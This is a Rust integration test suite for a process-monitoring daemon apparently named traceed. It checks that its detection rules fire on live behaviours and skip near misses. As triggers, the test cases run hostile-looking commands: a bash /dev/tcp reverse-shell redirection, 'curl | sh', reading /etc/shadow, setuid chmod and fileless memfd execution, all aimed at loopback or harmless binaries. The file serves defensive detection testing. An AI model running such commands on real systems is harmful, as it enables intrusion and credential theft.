//! Detection end to end: the shipped rule set (packaging/rules) loaded by a
//! real daemon, each behaviour run for real and its alert read back through
//! tracectl; each near miss must not alert. Plus the rule-file handling
//! that must never stop the daemon (unsupported features, YAML errors) and
//! the trust check that must.

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use traceed_tests::{bin, poll, spawn_fresh, unique, Daemon, DaemonOpts, Program, Scratch};
use traceed_wire::Alert;

fn rules_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../packaging/rules")
}

fn start(extra_rules: &[&PathBuf]) -> Daemon {
    let mut dirs = vec![format!("{:?}", rules_dir().canonicalize().unwrap())];
    dirs.extend(extra_rules.iter().map(|p| format!("{p:?}")));
    Daemon::start_with(DaemonOpts {
        config: Some(format!("[detect]\nrules = [{}]\n", dirs.join(", "))),
        ..DaemonOpts::default()
    })
}

fn alerts(d: &Daemon, rule: &str) -> Vec<Alert> {
    d.ctl_jsonl(&["alerts", "-o", "jsonl", "--rule", rule])
        .into_iter()
        .map(|v| serde_json::from_value(v).expect("an alert"))
        .collect()
}

/// The alert is on the process itself or on a child it started.
fn concerns(a: &Alert, pid: u32) -> bool {
    a.pid == Some(pid) || a.event.as_ref().and_then(|e| e.ppid) == Some(pid)
}

fn wait_alert(d: &Daemon, rule: &str, pid: u32) -> Alert {
    poll(
        Duration::from_secs(20),
        Duration::from_millis(100),
        || alerts(d, rule).into_iter().find(|a| concerns(a, pid)),
        || format!("no alert of {rule} for pid {pid}:\n{}", d.log_text()),
    )
}

/// Run `cmd` to its end, quietly: its pid. Through spawn_fresh: several
/// cases run a binary the test has just copied.
fn run(cmd: &mut Command) -> u32 {
    wait_pid(spawn_fresh(
        cmd.stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null()),
    ))
}

fn wait_pid(mut c: std::process::Child) -> u32 {
    let pid = c.id();
    c.wait().unwrap();
    pid
}

fn sh(script: &str) -> Command {
    let mut c = Command::new("/bin/sh");
    c.args(["-c", script]);
    c
}

/// One shipped rule: the behaviour, and a near miss.
struct Case {
    rule: &'static str,
    hit: Box<dyn Fn() -> u32>,
    miss: Box<dyn Fn() -> u32>,
}

fn cases(tmp: &std::path::Path) -> Vec<Case> {
    let file = tmp.join("target-file");
    std::fs::write(&file, "x").unwrap();
    let f1 = file.display().to_string();
    let f2 = f1.clone();
    let modprobe = match ["/usr/sbin/modprobe", "/sbin/modprobe"]
        .iter()
        .find(|p| std::path::Path::new(p).exists())
    {
        Some(p) => PathBuf::from(p),
        None => {
            let p = tmp.join("modprobe");
            std::fs::copy("/bin/true", &p).unwrap();
            p
        }
    };
    let modprobe2 = modprobe.clone();
    vec![
        Case {
            rule: "traceed-reverse-shell",
            // Port 9 on loopback refuses: the redirection is attempted, no
            // shell is exposed.
            hit: Box::new(|| {
                run(Command::new("bash").args(["-c", "exec 3<>/dev/tcp/127.0.0.1/9 || true"]))
            }),
            miss: Box::new(|| run(Command::new("bash").args(["-c", "echo ok >/dev/null"]))),
        },
        Case {
            rule: "traceed-download-to-shell",
            hit: Box::new(|| run(&mut sh("curl -s http://127.0.0.1:9/x | sh; true"))),
            miss: Box::new(|| run(&mut sh("curl -s http://127.0.0.1:9/x | grep -c sh; true"))),
        },
        Case {
            rule: "traceed-shadow-read",
            hit: Box::new(|| run(Command::new("cat").arg("/etc/shadow"))),
            miss: Box::new(|| run(Command::new("ls").args(["-l", "/etc/shadow"]))),
        },
        Case {
            rule: "traceed-setuid-file",
            hit: Box::new(move || run(Command::new("chmod").args(["u+s", &f1]))),
            miss: Box::new(move || run(Command::new("chmod").args(["755", &f2]))),
        },
        Case {
            rule: "traceed-module-load",
            // The real modprobe where kmod is installed (a module that does
            // not exist: the attempt is the behaviour); else a stand-in
            // named modprobe, which is all the rule sees of it.
            hit: Box::new(move || run(Command::new(&modprobe).arg("traceed_no_such_module"))),
            miss: Box::new(move || {
                run(Command::new(&modprobe2).args(["-n", "traceed_no_such_module"]))
            }),
        },
        Case {
            rule: "traceed-ptrace-attach",
            hit: Box::new(|| {
                // The target lives until its stdin closes, which happens
                // once strace is attached (its TracerPid is set).
                let mut target = Command::new("cat")
                    .stdin(std::process::Stdio::piped())
                    .stdout(std::process::Stdio::null())
                    .spawn()
                    .unwrap();
                let pid = target.id().to_string();
                let mut tracer = Command::new("strace")
                    .args(["-o", "/dev/null", "-p", &pid])
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .unwrap();
                let status = format!("/proc/{pid}/status");
                poll(
                    Duration::from_secs(10),
                    Duration::from_millis(10),
                    || {
                        let s = std::fs::read_to_string(&status).ok()?;
                        s.lines()
                            .any(|l| l.starts_with("TracerPid:") && l.trim_end() != "TracerPid:\t0")
                            .then_some(())
                    },
                    || format!("strace never attached to {pid}"),
                );
                drop(target.stdin.take());
                target.wait().unwrap();
                tracer.wait().unwrap();
                tracer.id()
            }),
            miss: Box::new(|| run(Command::new("strace").args(["-o", "/dev/null", "/bin/true"]))),
        },
        Case {
            rule: "traceed-exec-memfd-shm",
            hit: Box::new(|| {
                let p = PathBuf::from("/dev/shm").join(unique("shm"));
                std::fs::copy("/bin/true", &p).unwrap();
                let pid = wait_pid(spawn_fresh(&mut Command::new(&p)));
                let _ = std::fs::remove_file(&p);
                pid
            }),
            miss: Box::new(|| Program::new("tmpt").run(&[])),
        },
        Case {
            rule: "traceed-exec-memfd-shm",
            // Fileless: true copied into a memfd and run through
            // /proc/self/fd, gone at once: the exec record names the file
            // the kernel loaded ("memfd:NAME", process.bpf.c), and the
            // image is "/memfd:NAME (deleted)" as /proc/PID/exe would have
            // shown it.
            hit: Box::new(|| traceed_tests::run_from_memfd("traceed-test")),
            miss: Box::new(|| run(&mut Command::new("/bin/true"))),
        },
        Case {
            rule: "traceed-shell-parent-tmp",
            // A copy of dash under /tmp forks a child that execs /bin/sh
            // (`; true` keeps the parent from exec'ing it in place).
            hit: Box::new(|| {
                let parent = Program::copy_of("/bin/dash", "dropper");
                assert!(parent.path.starts_with("/tmp"), "{}", parent.path.display());
                run(Command::new(&parent.path).args(["-c", "/bin/sh -c true; true"]))
            }),
            miss: Box::new(|| run(&mut sh("/bin/sh -c true; true"))),
        },
    ]
}

#[test]
fn shipped_rules_alert_live_and_near_misses_do_not() {
    let d = start(&[]);
    let cases = cases(&d.dir);
    for c in &cases {
        let miss = (c.miss)();
        let hit = (c.hit)();
        let a = wait_alert(&d, c.rule, hit);
        // The near miss ran first: the detector handles events in order, so
        // the hit's alert means the near miss was already matched (or not).
        let wrong: Vec<Alert> = alerts(&d, c.rule)
            .into_iter()
            .filter(|a| concerns(a, miss))
            .collect();
        assert!(wrong.is_empty(), "{}: near miss alerted: {wrong:?}", c.rule);
        let ev = a
            .event
            .as_ref()
            .unwrap_or_else(|| panic!("{}: alert without its event", c.rule));
        assert_eq!(ev.id, a.event_id);
        assert_eq!(ev.kind, "exec", "{}", c.rule);
        assert!(!a.level.is_empty() && !a.tags.is_empty(), "{a:?}");
    }
    // Per-rule counters and the status line.
    let (code, metrics) = traceed_tests::http_get(&d.socket, "/metrics").unwrap();
    assert_eq!(code, 200);
    for c in &cases {
        assert!(
            metrics.contains(&format!("traceed_alerts_total{{rule=\"{}\"}}", c.rule)),
            "{}: {metrics}",
            c.rule
        );
    }
    // Every event it was handed was matched, none skipped.
    let value = |name: &str| {
        metrics
            .lines()
            .find_map(|l| l.strip_prefix(name)?.trim().parse::<u64>().ok())
    };
    let handled = value("traceed_detect_events_total ");
    assert!(
        handled.is_some_and(|n| n >= cases.len() as u64),
        "{metrics}"
    );
    assert_eq!(
        value("traceed_detect_dropped_events_total "),
        Some(0),
        "{metrics}"
    );
    let st = d.ctl(&["status"]);
    let text = String::from_utf8_lossy(&st.stdout);
    assert!(
        text.contains("detection:  8 rules active, 0 skipped"),
        "{text}"
    );
}

#[test]
fn alert_carries_the_minute_before_and_filters_apply() {
    let d = start(&[]);
    // A copy of dash under /tmp: it runs `true` (context), then starts a
    // shell, which alerts; the alert of the child has no context of its own
    // but the parent's command is in its ppid.
    let parent = Program::copy_of("/bin/dash", "ctx");
    let pid = run(Command::new(&parent.path)
        .args(["-c", "cat /etc/hostname >/dev/null; /bin/sh -c true; true"]));
    let a = wait_alert(&d, "traceed-shell-parent-tmp", pid);
    assert_eq!(a.level, "medium");
    // The child's own exec is the match; its context is its events before
    // the exec (fork), all of that pid.
    let child = a.pid.unwrap();
    assert!(
        a.context
            .iter()
            .all(|e| e.pid == Some(child) && e.ts <= a.ts),
        "{a:?}"
    );
    // Its ancestry ends with the /tmp parent and passes through this test.
    let chain: Vec<u32> = a.ancestry.iter().map(|p| p.pid).collect();
    assert_eq!(chain.last(), Some(&pid), "{a:?}");
    assert_eq!(
        a.ancestry.last().and_then(|p| p.exe.as_deref()),
        parent.path.to_str(),
        "{a:?}"
    );
    assert!(chain.contains(&std::process::id()), "{chain:?}");
    // level is a minimum: medium alerts are not "high".
    let out = d.ctl(&[
        "alerts",
        "-o",
        "jsonl",
        "--level",
        "high",
        "--rule",
        "traceed-shell-parent-tmp",
    ]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).trim().is_empty());
    // Bad input names the parameter.
    let (code, body) = traceed_tests::http_get(&d.socket, "/v1/alerts?level=loud").unwrap();
    assert_eq!(code, 400);
    assert!(body.contains("parameter 'level'"), "{body}");
    let (code, body) = traceed_tests::http_get(&d.socket, "/v1/alerts?rules=x").unwrap();
    assert_eq!(code, 400);
    assert!(body.contains("unknown parameter 'rules'"), "{body}");
}

#[test]
fn unsupported_and_broken_rules_are_named_and_counted_never_fatal() {
    let dir = std::env::temp_dir().join(unique("ru"));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("agg.yml"),
        "title: Too many\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {Image|endswith: /sh}\n  condition: s | count() > 10\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("broken.yml"),
        "title: x\ndetection:\n  s: [a\n  b: c\n",
    )
    .unwrap();
    let d = start(&[&dir]);
    let st: traceed_wire::Status =
        serde_json::from_slice(&d.ctl(&["status", "-o", "json"]).stdout).unwrap();
    let det = st.detect.expect("detect status");
    assert_eq!(
        (det.rules_loaded, det.rules_skipped, det.rule_errors),
        (8, 1, 1)
    );
    let log = d.log_text();
    assert!(
        log.contains("agg.yml: rule 'Too many' skipped: unsupported aggregation"),
        "{log}"
    );
    assert!(log.contains("broken.yml:"), "{log}");
    // tracectl rules check says the same offline, and exits 1.
    let out = Command::new(bin("tracectl"))
        .args(["rules", "check"])
        .arg(&dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("agg.yml: rule 'Too many' skipped: unsupported aggregation"),
        "{err}"
    );
    assert!(
        err.contains("broken.yml:3:") || err.contains("broken.yml:4:"),
        "{err}"
    );
    let ok = Command::new(bin("tracectl"))
        .args(["rules", "check"])
        .arg(rules_dir())
        .output()
        .unwrap();
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn untrusted_rules_dir_refuses_start_and_keeps_old_rules_on_reload() {
    use std::os::unix::fs::PermissionsExt;
    let dir = std::env::temp_dir().join(unique("ro"));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let cfg_dir = std::env::temp_dir().join(unique("cfg"));
    std::fs::create_dir_all(&cfg_dir).unwrap();
    let cfg = cfg_dir.join("traceed.toml");
    std::fs::write(&cfg, format!("[detect]\nrules = [{:?}]\n", dir)).unwrap();
    let out = traceed_tests::traceed_command(false)
        .arg("--config")
        .arg(&cfg)
        .arg("--state-dir")
        .arg(&cfg_dir)
        .arg("--socket")
        .arg(cfg_dir.join("s.sock"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(78));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("the rules path") && err.contains("writable by every user"),
        "{err}"
    );

    // Started trusted, made untrusted, then SIGHUP: the old rules stay.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::copy(rules_dir().join("shadow_read.yml"), dir.join("r.yml")).unwrap();
    let d = Daemon::start_with(DaemonOpts {
        config: Some(format!("[detect]\nrules = [{:?}]\n", dir)),
        ..DaemonOpts::default()
    });
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    unsafe { libc::kill(d.pid() as i32, libc::SIGHUP) };
    poll(
        Duration::from_secs(10),
        Duration::from_millis(50),
        || {
            d.log_text()
                .contains("rules not reloaded, keeping the previous set")
                .then_some(())
        },
        || d.log_text(),
    );
    let pid = run(Command::new("cat").arg("/etc/shadow"));
    wait_alert(&d, "traceed-shadow-read", pid);
    // Trusted again, the rule removed: a reload drops it.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::remove_file(dir.join("r.yml")).unwrap();
    unsafe { libc::kill(d.pid() as i32, libc::SIGHUP) };
    poll(
        Duration::from_secs(10),
        Duration::from_millis(50),
        || d.log_text().contains("0 active").then_some(()),
        || d.log_text(),
    );
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&cfg_dir);
}

/// Write the daemon's config, SIGHUP it, and return the last "detection
/// rules loaded" line of its log once it reloaded.
fn reload_with(d: &Daemon, config: &str) -> String {
    std::fs::write(d.dir.join("traceed.toml"), config).unwrap();
    reload(d);
    d.log_text()
        .lines()
        .rev()
        .find(|l| l.contains("detection rules loaded"))
        .unwrap_or_default()
        .to_owned()
}

/// Send SIGHUP and wait until the daemon says it reloaded once more.
fn reload(d: &Daemon) {
    let before = d.log_text().matches("SIGHUP: reloading").count();
    unsafe { libc::kill(d.pid() as i32, libc::SIGHUP) };
    poll(
        Duration::from_secs(10),
        Duration::from_millis(50),
        || {
            let log = d.log_text();
            let idx = log.match_indices("SIGHUP: reloading").nth(before)?.0;
            log[idx..].contains("reloaded").then_some(())
        },
        || d.log_text(),
    );
}

#[test]
fn reload_applies_the_detect_section_and_keeps_it_when_the_config_breaks() {
    // A marker rule that stays enabled: its alert on a later exec shows the
    // detector got past the earlier events.
    let extra = Scratch::new("marker");
    let token = unique("mk");
    std::fs::write(
        extra.join("marker.yml"),
        format!(
            "title: marker\nid: test-marker\nlevel: low\n\
             logsource: {{product: linux, category: process_creation}}\n\
             detection:\n  sel:\n    CommandLine|contains: {token}\n  condition: sel\n"
        ),
    )
    .unwrap();
    let d = start(&[&extra.to_path_buf()]);
    let base = std::fs::read_to_string(d.dir.join("traceed.toml")).unwrap();

    let loaded = reload_with(&d, &format!("{base}disabled = [\"traceed-shadow-read\"]\n"));
    assert!(loaded.contains("1 disabled"), "{}", d.log_text());
    let quiet = run(Command::new("cat").arg("/etc/shadow"));
    let marker = run(Command::new("/bin/echo").arg(&token));
    wait_alert(&d, "test-marker", marker);
    assert!(
        !alerts(&d, "traceed-shadow-read")
            .iter()
            .any(|a| concerns(a, quiet)),
        "a disabled rule alerted"
    );

    // A config that no longer parses keeps [detect] as it was.
    let loaded = reload_with(&d, &format!("{base}disabled = [\n"));
    let log = d.log_text();
    assert!(
        log.contains("config not re-read, keeping [detect] as it was"),
        "{log}"
    );
    assert!(loaded.contains("1 disabled"), "{log}");

    // Enabled again.
    let loaded = reload_with(&d, &base);
    assert!(loaded.contains("0 disabled"), "{}", d.log_text());
    let loud = run(Command::new("cat").arg("/etc/shadow"));
    wait_alert(&d, "traceed-shadow-read", loud);
}

/// `tracectl hunt -o jsonl RULES... ARGS`: the match objects.
fn hunt(d: &Daemon, rules: &[&std::path::Path], args: &[&str]) -> Vec<serde_json::Value> {
    let mut a: Vec<String> = vec!["hunt".into(), "-o".into(), "jsonl".into()];
    a.extend(rules.iter().map(|p| p.display().to_string()));
    a.extend(args.iter().map(|s| s.to_string()));
    let a: Vec<&str> = a.iter().map(String::as_str).collect();
    d.ctl_jsonl(&a)
}

fn pid_of(m: &serde_json::Value) -> Option<u32> {
    m["event"]["pid"].as_u64().map(|p| p as u32)
}

/// A raw POST /v1/hunt, for what tracectl checks before sending.
fn post_hunt(d: &Daemon, query: &str, body: &str) -> std::os::unix::net::UnixStream {
    use std::io::Write;
    let mut s = std::os::unix::net::UnixStream::connect(&d.socket).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    // An over-size body is refused before it is read: the write may then
    // meet a closed socket, and the answer is still there to read.
    let _ = write!(
        s,
        "POST /v1/hunt{query} HTTP/1.1\r\nHost: traceed\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    s
}

#[test]
fn hunt_finds_stored_behaviours_with_their_event_and_near_misses_none() {
    let d = start(&[]);
    // Parent fields in a hunt: the detector's process map, fed in id order.
    let tmp_parent = Program::copy_of("/bin/dash", "hdropper");
    let shadow_miss = run(Command::new("ls").args(["-l", "/etc/shadow"]));
    let shadow_hit = run(Command::new("cat").arg("/etc/shadow"));
    let parent_miss = run(&mut sh("/bin/sh -c true; true"));
    let parent_hit = run(Command::new(&tmp_parent.path).args(["-c", "/bin/sh -c true; true"]));
    let live_shadow = wait_alert(&d, "traceed-shadow-read", shadow_hit);
    let live_parent = wait_alert(&d, "traceed-shell-parent-tmp", parent_hit);

    let shadow = rules_dir().join("shadow_read.yml");
    let parent = rules_dir().join("shell_from_tmp_parent.yml");
    let ms = hunt(&d, &[&shadow, &parent], &["--since", "10m"]);
    let find = |rule: &str, pid: u32| {
        ms.iter()
            .filter(|m| m["rule"]["id"] == rule)
            .find(|m| pid_of(m) == Some(pid) || m["event"]["ppid"].as_u64() == Some(pid as u64))
    };
    let m = find("traceed-shadow-read", shadow_hit).unwrap_or_else(|| panic!("{ms:#?}"));
    assert_eq!(m["event"]["id"].as_i64(), Some(live_shadow.event_id), "{m}");
    assert_eq!(m["rule"]["level"], "high");
    assert!(m["rule"]["title"].as_str().is_some_and(|t| !t.is_empty()));
    let anc = m["ancestry"].as_array().expect("ancestry");
    assert!(
        anc.iter()
            .any(|p| p["pid"].as_u64() == Some(std::process::id() as u64)),
        "the test process is an ancestor: {m}"
    );
    let m = find("traceed-shell-parent-tmp", parent_hit).unwrap_or_else(|| panic!("{ms:#?}"));
    assert_eq!(m["event"]["id"].as_i64(), Some(live_parent.event_id), "{m}");
    assert!(
        find("traceed-shadow-read", shadow_miss).is_none(),
        "{ms:#?}"
    );
    assert!(
        find("traceed-shell-parent-tmp", parent_miss).is_none(),
        "{ms:#?}"
    );

    // A window that ends before the behaviour has none of it.
    let before = hunt(&d, &[&shadow], &["--since", "1h", "--until", "10m"]);
    assert!(
        before.iter().all(|m| pid_of(m) != Some(shadow_hit)),
        "{before:?}"
    );

    // The table: one match, its rule and ancestry.
    let out = d.ctl_ok(&["hunt", &shadow.display().to_string(), "--since", "10m"]);
    let text = String::from_utf8_lossy(&out);
    assert!(
        text.contains("traceed-shadow-read") && text.contains("ancestry:"),
        "{text}"
    );
    assert!(text.contains(&live_shadow.event_id.to_string()), "{text}");

    // A bad rule: exit 1 from tracectl (with `rules check`'s message), and
    // a 400 naming the problem from the API; so is a bad parameter.
    let bad = d.dir.join("bad.yml");
    std::fs::write(&bad, "title: [unclosed\n").unwrap();
    let out = d.ctl(&["hunt", &bad.display().to_string()]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("error:") && err.contains("YAML error"),
        "{err}"
    );
    let out = d.ctl(&["hunt", &shadow.display().to_string(), "--since", "bogus"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (query, body, want) in [
        ("", "title: [unclosed\n", "YAML error"),
        ("", "", "no rule"),
        ("?since=bogus", "title: x\n", "parameter 'since'"),
        ("?nope=1", "title: x\n", "unknown parameter"),
    ] {
        use std::io::Read;
        let mut s = post_hunt(&d, query, body);
        let mut text = String::new();
        s.read_to_string(&mut text).unwrap();
        let (code, answer) = traceed_tests::split_http_answer(&text);
        assert_eq!(code, 400, "{query} {body}: {text}");
        assert!(answer.contains(want), "{query} {body}: {answer}");
    }
    let big = format!("title: x\ndescription: '{}'\n", "a".repeat(2 << 20));
    {
        use std::io::Read;
        let mut s = post_hunt(&d, "", &big);
        let mut text = String::new();
        let _ = s.read_to_string(&mut text);
        let (code, _) = traceed_tests::split_http_answer(&text);
        assert_eq!(code, 413, "{}", &text[..text.len().min(300)]);
    }
}

fn metric(d: &Daemon, name: &str) -> Option<f64> {
    let (_, m) = traceed_tests::http_get(&d.socket, "/metrics").ok()?;
    m.lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.trim().parse().ok())
}

#[test]
fn hunt_of_everything_streams_and_stops_when_the_client_goes_away() {
    use std::io::Read;
    let d = start(&[]);
    // History: a few thousand execs.
    run(&mut sh(
        "i=0; while [ $i -lt 3000 ]; do /bin/true; i=$((i+1)); done",
    ));
    d.barrier();
    let all = "title: every exec\nid: hunt-everything\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    Image|startswith: '/'\n  condition: selection\n";
    let mut s = post_hunt(&d, "?since=1h", all);
    // Read progressively until the first match line.
    let mut got = Vec::new();
    let mut buf = [0u8; 512];
    while !String::from_utf8_lossy(&got).contains("\"match\"") {
        let n = s.read(&mut buf).unwrap();
        assert!(
            n > 0,
            "stream ended first: {}",
            String::from_utf8_lossy(&got)
        );
        got.extend_from_slice(&buf[..n]);
    }
    let text = String::from_utf8_lossy(&got).into_owned();
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
    assert!(text.contains("{\"progress\""), "{text}");
    assert!(!text.contains("\"summary\""), "{text}");
    // The scan waits for this reader: it is running.
    poll(
        Duration::from_secs(10),
        Duration::from_millis(50),
        || (metric(&d, "traceed_hunts_active") == Some(1.0)).then_some(()),
        || "no hunt is active".into(),
    );
    drop(s);
    poll(
        Duration::from_secs(20),
        Duration::from_millis(50),
        || (metric(&d, "traceed_hunts_active") == Some(0.0)).then_some(()),
        || format!("the hunt still runs:\n{}", d.log_text()),
    );
    let log = d.log_text();
    assert!(log.contains("hunt stopped: the client went away"), "{log}");
    assert!(
        !log.contains("hunt done"),
        "the scan had ended first: {log}"
    );
    assert!(metric(&d, "traceed_hunts_abandoned_total").is_some_and(|n| n >= 1.0));

    // Read to the end, the same hunt streams every exec and a summary.
    let mut s = post_hunt(&d, "?since=1h", all);
    let mut text = String::new();
    s.read_to_string(&mut text).unwrap();
    let matches = text.matches("{\"match\"").count();
    assert!(matches >= 3000, "{matches} matches");
    assert!(
        text.contains("{\"summary\""),
        "{}",
        &text[text.len().saturating_sub(500)..]
    );
}
